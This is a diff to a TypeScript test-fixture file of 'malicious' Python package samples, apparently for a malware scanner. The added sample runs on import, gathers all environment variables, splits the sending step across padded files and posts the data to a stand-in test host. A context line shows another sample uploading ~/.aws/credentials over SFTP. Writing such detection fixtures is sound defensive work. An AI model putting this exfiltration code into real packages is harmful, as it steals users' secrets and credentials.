@@ -67,6 +67,15 @@ export const PYTHON: Samples['malicious'] = [
     expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
   },
   {
+    name: 'Python: the environment, on a way from file to file that loading begins',
+    files: {
+      ...wheel('from .boot import boot\nboot()\n'),
+      'own/boot.py': `import os\nfrom .core import Sender\ndef boot():\n    Sender(dict(os.environ)).run()\n${LONG}`,
+      'own/core.py': `${LONG}import requests\nclass Sender:\n    def __init__(self, data):\n        self.data = data\n    def run(self):\n        requests.post('https://a.weir.test/x', data=self.data)\n`,
+    },
+    expected: [{ rule: 'environment', file: 'own/boot.py', line: 4, severity: 'medium' }],
+  },
+  {
     name: 'Python: a key that is uploaded by its path',
     files: wheel(
       "import os, paramiko\nlink = paramiko.Transport(('sftp.weir.test', 22))\nparamiko.SFTPClient.from_transport(link).put(os.path.expanduser('~/.aws/credentials'), '/x')\n",
